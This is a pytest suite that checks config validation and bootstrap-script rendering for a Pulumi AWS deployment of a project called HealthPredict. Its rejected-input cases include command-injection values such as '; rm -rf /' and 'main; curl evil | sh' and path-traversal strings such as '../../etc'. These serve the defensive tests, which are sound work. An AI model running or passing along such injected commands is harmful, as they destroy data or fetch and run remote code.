"""Config validation and pure helpers, in-process (no Pulumi runtime needed)."""

from __future__ import annotations

import ast
import contextlib
import fnmatch
import io
import json
import re
import runpy
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import require_executable
from infra_harness import REPO_ROOT

from infra_pulumi.compute import BOOTSTRAP_PATH, ToolPins, render_bootstrap_script, render_user_data
from infra_pulumi.config import UCI_DATASET_URL, InfraConfig, check_known_keys, parse_port_range
from infra_pulumi.iam import host_policy_document
from infra_pulumi.registry import DEPLOYED_TAG_PREFIX, keep_last_policy
from infra_pulumi.secrets import SECRET_NAMES, STATUS_NAME

pytestmark = pytest.mark.infra

VALID: dict[str, Any] = {
    "owner": "alice",
    "region": "eu-west-1",
    "allowed_cidrs": ("203.0.113.10/32",),
    "repo_url": "https://github.com/example-org/healthpredict.git",
}


def test_defaults_are_the_documented_safe_ones() -> None:
    cfg = InfraConfig(**VALID)
    assert cfg.instance_type == "t3.xlarge" and cfg.root_volume_gb == 60
    assert cfg.ssh_cidrs == () and cfg.allow_unsafe_ingress is False and cfg.force_destroy is False
    assert cfg.ecr_keep_last == 20 and cfg.noncurrent_version_days == 30
    assert (cfg.mlflow_port, cfg.prefect_port, cfg.api_ports) == (5000, 4200, (8000, 8000))
    assert cfg.subnet_cidrs == ("10.42.0.0/20", "10.42.16.0/20")
    with pytest.raises(AttributeError):
        cfg.owner = "mallory"  # type: ignore[misc]


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"owner": ""}, "healthpredict:owner is required"),
        ({"region": ""}, "aws:region is required"),
        ({"allowed_cidrs": ()}, "healthpredict:allowedCidrs is required"),
        (
            {"allowed_cidrs": ("10.0.0.1/24",)},
            "healthpredict:allowedCidrs: '10.0.0.1/24' is not a valid CIDR",
        ),
        ({"allowed_cidrs": ("everyone",)}, "healthpredict:allowedCidrs: 'everyone'"),
        ({"allowed_cidrs": ("0.0.0.0/0",)}, "healthpredict:allowedCidrs contains 0.0.0.0/0"),
        ({"ssh_cidrs": ("::/0",), "allow_unsafe_ingress": True}, "healthpredict:sshCidrs contains ::/0"),
        ({"ssh_cidrs": ("300.1.1.1/32",)}, "healthpredict:sshCidrs: '300.1.1.1/32'"),
        ({"vpc_cidr": "10.0.0.0/8"}, "healthpredict:vpcCidr"),
        ({"az_count": 0}, "healthpredict:azCount"),
        ({"instance_type": "t4g.xlarge"}, "arm64"),
        ({"instance_type": "huge"}, "healthpredict:instanceType"),
        ({"root_volume_gb": 8}, "healthpredict:rootVolumeGb"),
        ({"kms_key_arn": "alias/mine"}, "healthpredict:kmsKeyArn"),
        ({"ecr_keep_last": 0}, "healthpredict:ecrKeepLast"),
        ({"noncurrent_version_days": 0}, "healthpredict:noncurrentVersionDays"),
        ({"repo_url": ""}, "healthpredict:repoUrl is required"),
        ({"repo_url": "file:///home/me/healthpredict"}, "healthpredict:repoUrl"),
        ({"repo_url": "https://github.com/x/y.git; rm -rf /"}, "healthpredict:repoUrl"),
        ({"repo_ref": "main; curl evil | sh"}, "healthpredict:repoRef"),
        ({"repo_ref": "../../etc"}, "healthpredict:repoRef"),
        ({"mlflow_port": 70000}, "healthpredict:mlflowPort"),
        ({"compose_file": "../compose.yaml"}, "healthpredict:composeFile"),
        ({"compose_file": "/etc/compose.yaml"}, "healthpredict:composeFile"),
        ({"compose_file": "docker-compose.yml:/etc/x.yml"}, "healthpredict:composeFile"),
        ({"compose_file": "docker-compose.yml::"}, "healthpredict:composeFile"),
    ],
)
def test_invalid_or_unsafe_config_is_refused_naming_the_key(override: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError) as info:
        InfraConfig(**{**VALID, **override})
    assert message in str(info.value)


def test_unsafe_override_allows_world_services_but_not_ssh() -> None:
    cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("0.0.0.0/0", "::/0"), "allow_unsafe_ingress": True})
    assert cfg.ipv4_allowed == ("0.0.0.0/0",) and cfg.ipv6_allowed == ("::/0",)
    with pytest.raises(ValueError, match="never opened to a whole range, even with allowUnsafeIngress=true"):
        replace(cfg, ssh_cidrs=("0.0.0.0/0",))


@pytest.mark.parametrize(
    ("field", "cidr"),
    [
        ("allowed_cidrs", "0.0.0.0/1"),  # half the internet is as open as all of it
        ("allowed_cidrs", "128.0.0.0/1"),
        ("allowed_cidrs", "198.51.0.0/16"),
        ("allowed_cidrs", "2001:db8::/32"),
        ("ssh_cidrs", "198.51.100.0/23"),
    ],
)
def test_ranges_wider_than_the_minimum_prefix_are_refused(field: str, cidr: str) -> None:
    key = "allowedCidrs" if field == "allowed_cidrs" else "sshCidrs"
    with pytest.raises(ValueError, match=rf"healthpredict:{key} contains .*wider than"):
        InfraConfig(**{**VALID, field: (cidr,)})


def test_minimum_prefix_is_configurable_and_bounded() -> None:
    cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("198.51.0.0/16",), "min_ingress_prefix": 16})
    assert cfg.ipv4_allowed == ("198.51.0.0/16",)
    with pytest.raises(ValueError, match="healthpredict:minIngressPrefix must be in 8-32"):
        InfraConfig(**{**VALID, "min_ingress_prefix": 0})


@pytest.mark.parametrize(("raw", "expected"), [("8000", (8000, 8000)), ("30000-32767", (30000, 32767))])
def test_port_ranges_parse(raw: str, expected: tuple[int, int]) -> None:
    assert parse_port_range("apiPorts", raw) == expected


@pytest.mark.parametrize("raw", ["", "http", "9000-8000", "0", "1-70000"])
def test_bad_port_ranges_are_refused(raw: str) -> None:
    with pytest.raises(ValueError, match="healthpredict:apiPorts"):
        parse_port_range("apiPorts", raw)


PINS = ToolPins(kubectl_version="v1.35.0", kubectl_sha256="a" * 64, minikube_version="v1.38.1",
                minikube_sha256="b" * 64)  # fmt: skip


USER_DATA_VALUES: dict[str, Any] = {
    "repo_url": "https://github.com/example-org/healthpredict.git",
    "repo_ref": "release/1.0",
    "bucket_name": "bucket with space",
    "ecr_repository_url": "1.dkr.ecr.eu-west-1.amazonaws.com/repo",
    "region": "eu-west-1",
    "secrets_path": "/healthpredict/dev",
    "status_parameter": "/healthpredict/dev/bootstrap-status",
    "tools": PINS,
    "raw_data_uri": UCI_DATASET_URL,
}


def render(**overrides: Any) -> str:
    return render_user_data(**{**USER_DATA_VALUES, **overrides})


def bootstrap_script(user_data: str) -> str:
    """The script the cloud-config writes to the host (parsed as cloud-init parses it)."""
    config = yaml.safe_load(user_data)
    assert user_data.startswith("#cloud-config\n")
    (written,) = config["write_files"]
    assert written["path"] == BOOTSTRAP_PATH and written["permissions"] == "0700" and written["owner"] == "root:root"
    assert config["runcmd"] == [[BOOTSTRAP_PATH]]
    return str(written["content"])


def test_user_data_carries_the_bootstrap_script_byte_for_byte() -> None:
    script = bootstrap_script(render())
    assert script == render_bootstrap_script(**USER_DATA_VALUES)
    assert script.startswith("#!/bin/bash\n")


def test_user_data_quotes_interpolated_values() -> None:
    script = render()
    assert "HEALTHPREDICT_BUCKET='bucket with space'" in script
    assert "HEALTHPREDICT_ARTIFACT_URI='s3://bucket with space/data'" in script
    assert "fetch --tags origin release/1.0" in script
    assert "STATUS_PARAMETER=/healthpredict/dev/bootstrap-status" in script


def test_user_data_checks_every_download_against_its_pin() -> None:
    script = render()
    assert "https://dl.k8s.io/release/v1.35.0/bin/linux/amd64/kubectl" in script
    assert "https://github.com/kubernetes/minikube/releases/download/v1.38.1/minikube-linux-amd64" in script
    assert "sha256sum --check --strict" in script
    calls = [ln for ln in script.splitlines() if ln.lstrip().startswith(("a" * 64, "b" * 64))]
    assert [c.split()[0] for c in calls] == ["a" * 64, "b" * 64]  # each install_checked call carries its pin


def test_tool_pins_are_refused_unless_full_sha256() -> None:
    with pytest.raises(ValueError, match="healthpredict:kubectlSha256"):
        InfraConfig(**{**VALID, "kubectl_sha256": "abc"})


def test_rendered_user_data_passes_cloud_init_schema(tmp_path: Path) -> None:
    user_data = tmp_path / "user-data.yaml"
    user_data.write_text(render())
    exe = require_executable("cloud-init", "apt-get install cloud-init")
    proc = subprocess.run([exe, "schema", "--config-file", str(user_data)], capture_output=True, text=True,
                          timeout=120, check=False)  # fmt: skip
    assert proc.returncode == 0 and "Valid cloud-config" in proc.stdout, proc.stdout + proc.stderr


@pytest.mark.parametrize("raw_data_uri", [UCI_DATASET_URL, "s3://healthpredict-bucket-a1b2c3/raw/diabetic_data.csv"])
@pytest.mark.parametrize("tool", ["bash", "shellcheck"])
def test_rendered_user_data_is_valid_shell(tmp_path: Path, tool: str, raw_data_uri: str) -> None:
    script = tmp_path / "user-data.sh"
    script.write_text(bootstrap_script(render(bucket_name="healthpredict-bucket-a1b2c3", raw_data_uri=raw_data_uri)))
    exe = require_executable(tool, "apt-get install shellcheck" if tool == "shellcheck" else "")
    command = [exe, "-n", str(script)] if tool == "bash" else [exe, "-S", "warning", "-s", "bash", str(script)]
    proc = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_user_data_writes_a_root_only_env_and_reports_its_status() -> None:
    script = render()
    env_block = script[script.index("umask 077") : script.index("umask 022")]
    assert "> .env.new" in env_block and "mv .env.new .env" in env_block
    assert "COMPOSE_FILE=docker-compose.yml:docker-compose.aws.yml" in env_block
    assert "trap 'report " in script and 'report "ready:' in script
    assert "http_put_response_hop_limit" not in script  # the hop limit is the instance's, see the program tests


FAKE_METADATA_CURL = """#!/bin/bash
# The instance metadata service as curl sees it: a token, then answers only to requests that carry it.
url="${*: -1}"
case "$url" in
  */latest/api/token) printf tok; exit 0 ;;
esac
[[ " $* " == *"X-aws-ec2-metadata-token: tok"* ]] || exit 22
case "$url" in
  */meta-data/public-hostname) [ -n "${PUBLIC_HOSTNAME:-}" ] || exit 22; printf %s "$PUBLIC_HOSTNAME" ;;
  */meta-data/public-ipv4) printf 198.51.100.7 ;;
  *) exit 22 ;;
esac
"""


@pytest.mark.parametrize(
    ("public_hostname", "expected"),
    [("ec2-198-51-100-7.eu-west-1.compute.amazonaws.com", "ec2-198-51-100-7.eu-west-1.compute.amazonaws.com"),
     ("", "198.51.100.7")],
)  # fmt: skip
def test_prefect_ui_calls_its_api_at_the_hosts_public_address(
    tmp_path: Path, public_hostname: str, expected: str
) -> None:
    """The UI runs in the user's browser: the API address it is given must be the host's public one, on the port
    compose publishes for the Prefect server (the default, localhost, is the user's own machine)."""
    script = bootstrap_script(render())
    start = script.index("public_address() {")
    function = script[start : script.index("\n}\n", start) + 3]
    (fake := tmp_path / "bin" / "curl").parent.mkdir()
    fake.write_text(FAKE_METADATA_CURL)
    fake.chmod(0o755)
    probe = f'set -euo pipefail\n{function}public_host="$(public_address)"\nprintf %s "$public_host"\n'
    env = {"PATH": f"{fake.parent}:/usr/bin:/bin", "PUBLIC_HOSTNAME": public_hostname}
    proc = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, env=env, timeout=30, check=False)
    assert (proc.returncode, proc.stdout) == (0, expected), proc.stderr
    env_block = script[script.index("umask 077") : script.index("umask 022")]
    (line,) = [ln.strip() for ln in env_block.splitlines() if "PREFECT_UI_API_URL=" in ln]
    match = re.fullmatch(r'echo "PREFECT_UI_API_URL=http://\$public_host:(\d+)/api"', line)
    assert match, line
    server = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]["prefect-server"]
    assert server["environment"]["PREFECT_UI_API_URL"].startswith("${PREFECT_UI_API_URL:-")
    assert [p for p in server["ports"] if p.endswith(f":{match[1]}:4200")], server["ports"]


def test_env_writer_reads_every_secret_of_the_stack_path_decrypted(tmp_path: Path) -> None:
    """The .env writer the bootstrap runs, against moto's SSM: SecureStrings decrypted, one line per secret,
    nothing from other stacks, not the status parameter."""
    import boto3
    import moto

    from infra_pulumi import compute

    with moto.mock_aws():
        ssm = boto3.client("ssm", region_name="eu-west-1")
        for name in SECRET_NAMES:
            ssm.put_parameter(Name=f"/healthpredict/dev/{name}", Value=f"{name.lower()}-value", Type="SecureString")
        ssm.put_parameter(Name=f"/healthpredict/dev/{STATUS_NAME}", Value="pending", Type="String")
        ssm.put_parameter(Name="/healthpredict/prod/POSTGRES_PASSWORD", Value="other-stack", Type="SecureString")
        script = tmp_path / "write_env.py"
        script.write_text(compute._WRITE_ENV)
        out = io.StringIO()
        with contextlib.redirect_stdout(out), pytest.MonkeyPatch.context() as mp:
            mp.setattr(sys, "argv", [str(script), "/healthpredict/dev", "eu-west-1"])
            runpy.run_path(str(script), run_name="__main__")
    lines = sorted(out.getvalue().splitlines())
    assert lines == sorted(f"{name}={name.lower()}-value" for name in SECRET_NAMES)


def test_policy_helpers_produce_expected_documents() -> None:
    doc = json.loads(
        host_policy_document(
            "arn:aws:s3:::b", "arn:aws:ecr:r:1:repository/x",
            secrets_path_arn="arn:aws:ssm:r:1:parameter/healthpredict/dev",
            status_parameter_arn="arn:aws:ssm:r:1:parameter/healthpredict/dev/bootstrap-status",
        )
    )  # fmt: skip
    star = [s for s in doc["Statement"] if s["Resource"] == "*"]
    assert [s["Action"] for s in star] == [["ecr:GetAuthorizationToken"]]
    assert not any(s["Action"][0].startswith("kms:") for s in doc["Statement"])
    by_sid = {s["Sid"]: s for s in doc["Statement"]}
    assert by_sid["StackSecrets"]["Resource"] == [
        "arn:aws:ssm:r:1:parameter/healthpredict/dev", "arn:aws:ssm:r:1:parameter/healthpredict/dev/*"
    ]  # fmt: skip
    assert not [a for a in by_sid["StackSecrets"]["Action"] if not a.startswith("ssm:Get")]
    assert by_sid["BootstrapStatus"]["Action"] == ["ssm:PutParameter"]
    # The bootstrap fetches an s3:// rawDataUri of this bucket with the role (boto3 download_file: head + get).
    raw_object = "arn:aws:s3:::b/raw/dataset_diabetes.zip"
    readable = [s for s in doc["Statement"] if any(fnmatch.fnmatchcase(raw_object, r) for r in s["Resource"])]
    assert "s3:GetObject" in {action for s in readable for action in s["Action"]}


def test_lifecycle_policy_never_expires_deployed_images() -> None:
    rules = sorted(json.loads(keep_last_policy(7))["rules"], key=lambda r: r["rulePriority"])
    deployed, untagged, rest = rules
    assert deployed["selection"]["tagPrefixList"] == [DEPLOYED_TAG_PREFIX]
    assert deployed["selection"]["countNumber"] >= 10_000  # a count no repository reaches: nothing expires
    assert untagged["selection"] == {"tagStatus": "untagged", "countType": "sinceImagePushed", "countUnit": "days",
                                     "countNumber": 7}  # fmt: skip
    assert rest["selection"]["tagStatus"] == "any" and rest["selection"]["countNumber"] == 7
    assert rest["rulePriority"] == max(r["rulePriority"] for r in rules)  # ECR requires "any" last


def test_known_keys_pass_and_other_namespaces_are_ignored() -> None:
    check_known_keys({"healthpredict:owner", "healthpredict:apiPorts", "aws:region", "aws:profile"})
    with pytest.raises(ValueError, match=r"unknown config key healthpredict:sshCidr .*did you mean"):
        check_known_keys({"healthpredict:sshCidr"})


def test_program_imports_only_the_pulumi_sdks_and_the_standard_library() -> None:
    """The program runs in its own virtualenv (Pulumi.yaml: venv from requirements.txt), which holds the Pulumi
    SDKs and nothing of HealthPredict; an import of anything else would fail at `pulumi up`."""
    program = Path(__file__).resolve().parents[2] / "infra_pulumi"
    stdlib = set(sys.stdlib_module_names)
    allowed = {"pulumi", "pulumi_aws", "pulumi_random", "infra_pulumi"} | stdlib
    # The CrossGuard pack is its own Pulumi project (policy/PulumiPolicy.yaml and requirements.txt).
    pack_allowed = {"pulumi", "pulumi_policy", "rules"} | stdlib
    foreign = []
    for path in program.rglob("*.py"):
        if "venv" in path.parts:
            continue
        permitted = pack_allowed if path.parent.name == "policy" else allowed
        for node in ast.walk(ast.parse(path.read_text())):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                names = [node.module]
            foreign += [f"{path.name}: {n}" for n in names if n.split(".")[0] not in permitted]
    assert foreign == []
    import tomllib

    declared = tomllib.loads((program / "pyproject.toml").read_text())["project"]["dependencies"]
    requirements = [ln for ln in (program / "requirements.txt").read_text().splitlines() if ln and ln[0] not in "#-"]
    assert sorted(requirements) == sorted(declared)
